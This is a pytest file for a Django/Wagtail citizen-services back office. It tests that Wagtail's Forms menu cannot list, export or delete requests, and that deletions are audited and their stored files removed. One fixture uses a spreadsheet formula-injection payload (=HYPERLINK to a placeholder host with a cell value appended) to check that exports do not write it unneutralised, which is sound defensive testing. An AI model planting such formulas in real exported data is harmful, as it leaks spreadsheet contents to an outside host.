"""One back office: Wagtail's Forms menu keeps out of the desk's requests, and every route that
deletes a request or an idea audits it and removes its files."""

import pytest
from django.db import transaction
from wagtail.models import ModelLogEntry

from eservices.core import audit
from eservices.core.files.storage import private_storage
from eservices.participation.models import Idea, IdeaAttachment
from eservices.requests.models import Attachment, RequestSubmission
from eservices.requests.retention import apply_retention

from .conftest import make_request, with_file
from .test_ideas import attach, idea

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"y")'


@pytest.fixture
def formula_request(desk):
    return make_request(desk["service_a"], form_data={"subject": FORMULA})


def test_the_forms_menu_lists_no_service_page(admin_client, formula_request):
    """Catches: the ``filter_form_submissions_for_user`` hook removed, which puts service
    pages back in Wagtail's Forms menu, a second inbox without the desk's checks."""
    response = admin_client.get("/admin/forms/")
    assert response.status_code == 200
    assert formula_request.page.title not in response.content.decode()


@pytest.mark.parametrize("suffix", ["", "?export=csv", "?export=xlsx"])
def test_the_forms_menu_cannot_list_or_export_a_service_pages_requests(
    admin_client, formula_request, suffix
):
    """A superuser asking Wagtail's own submissions listing or export for a service page is
    refused (Wagtail answers its PermissionDenied with a redirect to the dashboard), so no
    route writes the citizen's ``=HYPERLINK`` cell unneutralised."""
    page_id = formula_request.page_id
    response = admin_client.get("/admin/forms/submissions/%d/%s" % (page_id, suffix))
    assert (response.status_code, response["Location"]) == (302, "/admin/")


def test_the_forms_menu_cannot_delete_a_request(admin_client, formula_request):
    url = "/admin/forms/submissions/%d/delete/?selected-submissions=%d" % (
        formula_request.page_id,
        formula_request.pk,
    )
    response = admin_client.post(url)
    assert (response.status_code, response["Location"]) == (302, "/admin/")
    assert RequestSubmission.objects.filter(pk=formula_request.pk).exists()


def deletion_entries():
    return ModelLogEntry.objects.filter(action=audit.DELETE)


def test_deleting_a_service_page_audits_each_request_and_removes_its_files(
    desk, django_capture_on_commit_callbacks
):
    """Catches: the ``pre_delete`` receiver or the per-model ``post_delete`` file clean-up
    disconnected; a cascade from the page would then drop requests silently and leave their
    files in private storage."""
    first = make_request(desk["service_a"])
    second = make_request(desk["service_a"], national_code="0084575948")
    files = [with_file(first).file.name, with_file(second, "b.pdf").file.name]
    with django_capture_on_commit_callbacks(execute=True):
        desk["service_a"].delete()
    assert not RequestSubmission.objects.filter(pk__in=[first.pk, second.pk]).exists()
    logged = {entry.data["tracking_number"] for entry in deletion_entries()}
    assert logged == {first.tracking_number, second.tracking_number}
    assert all(entry.data["national_code"].startswith("xxx-") for entry in deletion_entries())
    assert not any(private_storage.exists(name) for name in files)


def test_deleting_an_idea_audits_it_and_removes_its_files(desk, django_capture_on_commit_callbacks):
    item = idea(desk["service_a"])
    name = attach(item).file.name
    with django_capture_on_commit_callbacks(execute=True):
        Idea.objects.filter(pk=item.pk).delete()
    assert not IdeaAttachment.objects.exists()
    assert [entry.data["reference_number"] for entry in deletion_entries()] == [
        item.reference_number
    ]
    assert not private_storage.exists(name)


def test_a_deletion_rolled_back_keeps_the_files(desk, django_capture_on_commit_callbacks):
    """Files go only once the deletion has committed: a rolled-back one keeps them."""
    submission = make_request(desk["service_a"])
    name = with_file(submission).file.name
    with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
        submission.delete()
        transaction.set_rollback(True)
    assert Attachment.objects.filter(file=name).exists()
    assert private_storage.exists(name)


def test_retention_deletion_is_audited_with_its_reason(desk, django_capture_on_commit_callbacks):
    from django.utils import timezone

    service = desk["service_a"]
    service.retention_days = 30
    service.retention_action = "delete"
    service.save()
    submission = make_request(service)
    name = with_file(submission).file.name
    closed = submission.status.next_statuses.get(code="rejected")
    RequestSubmission.objects.filter(pk=submission.pk).update(
        status=closed, closed_at=timezone.now() - timezone.timedelta(days=31)
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert apply_retention(service).count == 1
    (entry,) = deletion_entries()
    assert entry.data == {
        "tracking_number": submission.tracking_number,
        "reason": audit.RETENTION,
        "national_code": "xxx-xxxxx-19",
    }
    assert not private_storage.exists(name)
